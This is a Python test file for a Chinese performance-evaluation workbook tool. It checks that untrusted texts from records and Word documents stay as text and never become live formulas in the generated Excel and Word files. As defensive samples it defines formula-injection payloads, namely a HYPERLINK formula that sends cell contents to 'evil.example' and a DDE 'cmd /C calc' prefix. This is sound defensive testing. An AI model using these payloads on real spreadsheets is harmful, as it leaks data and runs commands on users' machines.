"""Texts of others stay texts: whatever they begin with, no cell of any workbook that is made calculates them."""

from __future__ import annotations

import json
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from jixiao.addin.verbs import forms as form_verbs
from jixiao.addin.verbs import year
from jixiao.addin.verbs.imports import import_file
from jixiao.addin.verbs.portable import make_portable
from jixiao.addin.verbs.report import report
from jixiao.addin.verbs.summary import summary
from jixiao.macros.forms.records import record_to_json
from jixiao.templates.library import default_library
from support import case_record

from trust.hostile.making import docx

pytestmark = pytest.mark.slow

LIBRARY = default_library()
EVIL = 'HYPERLINK("http://evil.example/"&A1,"点")'
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "|", "%0A=", "'=", "{=", "=cmd|' /C calc'!A0+")


def spoilt(value: object, starts: Iterator[str]) -> object:
    """A record of which every text begins as a formula would; ids, levels and figures stay."""
    if isinstance(value, dict):
        kept = ("id", "form", "level1", "level2", "target", "actual", "points", "score", "unit")
        return {key: item if key in kept else spoilt(item, starts) for key, item in value.items()}
    if isinstance(value, list):
        return [spoilt(item, starts) for item in value]
    return next(starts) + EVIL if isinstance(value, str) and value else value


def turns() -> Iterator[str]:
    while True:
        yield from STARTS


_QUOTED = re.compile(r"'(?:[^']|'')*'(?=!)|\"(?:[^\"]|\"\")*\"")


def kinds_of(path: Path) -> Counter[str]:
    """How often the text stands in a cell as a text, and how often in one that calculates it.

    A sheet bears the name of its project, and formulas name the sheet, in quotes; so do texts inside a formula.
    """
    found: Counter[str] = Counter()
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found["formula"] += "HYPERLINK" in _QUOTED.sub("", str(getattr(cell.value, "text", cell.value)))
                else:
                    found["text"] += "evil.example" in str(cell.value)
    return found


def test_no_text_of_a_record_becomes_a_formula_in_any_workbook_that_is_made(tmp_path: Path) -> None:
    data = spoilt(json.loads(json.dumps(record_to_json(case_record("selfeval-2023-004-07")), default=float)), turns())
    source = tmp_path / "记录.json"
    source.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    records = form_verbs.load_records([source], LIBRARY, None).records
    made = {name: tmp_path / f"{name}.xlsx" for name in ("表", "评分", "便携", "汇总")}
    form_verbs.generate(records, LIBRARY, made["表"])
    form_verbs.score(made["表"], LIBRARY, made["评分"])
    make_portable(made["评分"], made["便携"], LIBRARY)
    summary([source], LIBRARY, made["汇总"])
    report(made["评分"], LIBRARY, tmp_path / "报告.docx")
    for name, path in made.items():
        found = kinds_of(path)
        assert found["text"] and not found["formula"], name
    with zipfile.ZipFile(tmp_path / "报告.docx") as archive:
        text = archive.read("word/document.xml")
        assert b"evil.example" in text and b"instrText" not in text and b"evil.example" not in archive.read("word/_rels/document.xml.rels")


@pytest.mark.parametrize("start", STARTS)
def test_no_text_of_a_document_becomes_a_formula(start: str, tmp_path: Path) -> None:
    def row(*texts: str) -> bytes:
        cells = "".join(
            f'<w:tc><w:p><w:r><w:t xml:space="preserve">{text.replace("&", "&amp;")}</w:t></w:r></w:p></w:tc>' for text in texts)
        return f"<w:tr>{cells}</w:tr>".encode()

    text = start.replace("\r", "&#13;") + EVIL
    path = tmp_path / "表.docx"
    docx(path, [
        "<w:p><w:r><w:t>项目支出绩效自评表</w:t></w:r></w:p><w:tbl>".encode(), row("项目名称", text), row("主管部门", text),
        row("一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分", "偏差原因分析及改进措施"),
        row("产出指标", "数量指标", text, "≥1个", "1个", "50", "", text), row("效益指标", "社会效益指标", text, text, text, "40", "", ""),
        b"</w:tbl>",
    ])
    made = tmp_path / "导入.xlsx"
    import_file(path, LIBRARY, made)
    found = kinds_of(made)
    assert found["text"] and not found["formula"]


def test_monitoring_and_carrying_keep_texts_too(tmp_path: Path) -> None:
    data = spoilt(json.loads(json.dumps(record_to_json(case_record("target-2018-003-02")), default=float)), turns())
    source = tmp_path / "记录.json"
    source.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    form_verbs.generate(form_verbs.load_records([source], LIBRARY, None).records, LIBRARY, tmp_path / "申报.xlsx")
    year.monitor(tmp_path / "申报.xlsx", LIBRARY, date(2018, 7, 31), tmp_path / "监控.xlsx")
    year.carry(tmp_path / "申报.xlsx", LIBRARY, tmp_path / "自评.xlsx")
    year.compare(tmp_path / "申报.xlsx", tmp_path / "自评.xlsx", LIBRARY, tmp_path / "比对.xlsx")
    for name in ("申报", "监控", "自评"):
        found = kinds_of(tmp_path / f"{name}.xlsx")
        assert found["text"] and not found["formula"], name
    assert not kinds_of(tmp_path / "比对.xlsx")["formula"]


def test_a_text_that_became_a_formula_is_found(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.worksheets[0]["A1"] = f"={EVIL}"
    book.worksheets[0]["A2"] = f"='{EVIL}'!A1&\"{EVIL.replace(chr(34), chr(34) * 2)}\""
    book.save(tmp_path / "错.xlsx")
    assert kinds_of(tmp_path / "错.xlsx") == {"formula": 1}
